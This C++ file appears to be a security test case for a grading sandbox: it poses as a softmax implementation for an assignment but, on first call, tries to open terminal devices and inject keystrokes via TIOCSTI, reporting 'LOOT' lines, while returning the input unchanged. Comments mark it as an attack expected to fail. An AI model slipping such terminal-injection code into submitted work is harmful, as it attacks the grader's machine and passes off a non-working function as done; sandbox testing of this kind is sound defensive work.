// attack: types a command into the instructor's terminal
// expect: wrong
// because: the box has no terminal, and whoever has none cannot type into one
#include <cstdio>
#include <fcntl.h>
#include <sys/ioctl.h>

#include "tp1/softmax.hpp"

namespace {

bool type() {
  for (const char* path : {"/dev/tty", "/dev/console", "/dev/tty1", "/dev/pts/0", "/dev/ptmx"}) {
    const int terminal = open(path, O_RDWR | O_NONBLOCK);
    if (terminal >= 0) std::printf("LOOT opened %s\n", path);
  }
  for (int fd = 0; fd < 16; ++fd) {
    if (ioctl(fd, TIOCSTI, " ") == 0) std::printf("LOOT typed into descriptor %d\n", fd);
  }
  std::fflush(stdout);
  return true;
}

}  // namespace

nn::Vector tp1::softmax(const nn::Vector& logits) {
  [[maybe_unused]] static const bool typed = type();
  return logits;
}
